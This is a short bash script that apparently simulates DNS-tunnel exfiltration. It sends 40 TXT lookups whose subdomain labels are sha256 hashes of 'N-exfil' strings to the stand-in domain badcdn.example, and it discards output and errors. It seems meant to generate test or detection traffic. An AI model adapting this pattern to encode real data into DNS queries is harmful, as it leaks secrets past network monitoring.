# shellcheck shell=bash
for n in $(seq 40); do
  label=$(printf '%s-%s' "$n" "exfil" | sha256sum | cut -c1-60)
  lookup pc2 "$label.$n.t.badcdn.example" TXT >/dev/null || true
done
